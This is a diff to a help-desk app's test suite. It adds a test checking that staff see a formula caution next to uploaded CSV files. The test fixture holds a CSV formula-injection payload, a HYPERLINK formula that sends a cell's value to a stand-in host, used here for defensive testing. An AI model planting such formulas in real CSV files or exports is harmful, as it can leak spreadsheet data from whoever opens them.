@@ -106,3 +106,24 @@ def test_a_form_with_files_without_its_csrf_token_is_refused(browser, make_staff
     assert "expired" in resp.text
     with db.transaction() as conn:
         assert conn.execute("SELECT count(*) FROM attachments").fetchone() == (0,)
+
+
+def test_staff_see_a_spreadsheet_caution_by_a_csv_file(browser, make_staff, db):
+    """Issue 18: a CSV's cells starting with = + - or @ run as formulas in a spreadsheet;
+    the desk keeps files as they came, so the staff page says so by each CSV."""
+    form = form_with_action(browser.get("/"), "/")
+    _fill(form)
+    form["attachments"] = [
+        webtest.Upload("orders.csv", b'item,total\n=HYPERLINK("http://x.example/?"&A1),1\n'),
+        webtest.Upload("printer.log", TEXT, "text/plain"),
+    ]
+    assert form.submit().status_int == 303
+    make_staff("ADMIN", email="ana@example.com")
+    log_in(browser, "ana@example.com")
+    with db.transaction() as conn:
+        [(pid,)] = conn.execute("SELECT pid FROM tickets").fetchall()
+    files = browser.get(f"/tickets/{pid}").html.select("article.message .attachments li")
+    cautions = {li.select("a")[-1].text: li.select_one(".file-caution") for li in files}
+    assert set(cautions) == {"orders.csv", "printer.log"}
+    assert "formulas" in cautions["orders.csv"].text
+    assert cautions["printer.log"] is None
